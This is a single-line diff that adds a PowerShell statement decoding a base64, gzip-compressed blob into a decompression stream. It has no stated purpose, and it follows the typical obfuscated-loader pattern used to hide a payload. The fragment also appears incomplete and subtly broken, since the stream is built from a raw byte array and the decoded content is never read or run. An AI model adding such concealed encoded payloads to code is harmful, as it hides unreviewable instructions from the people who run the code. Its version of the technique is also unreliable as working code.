@@ -1,0 +1,1 @@
+$b=[Convert]::FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKSi20tcvT08tSU7J003LzEkt1kvOz9VPr1LXBACL06kuTQAAAA==');$s=New-Object IO.Compression.GzipStream($b)
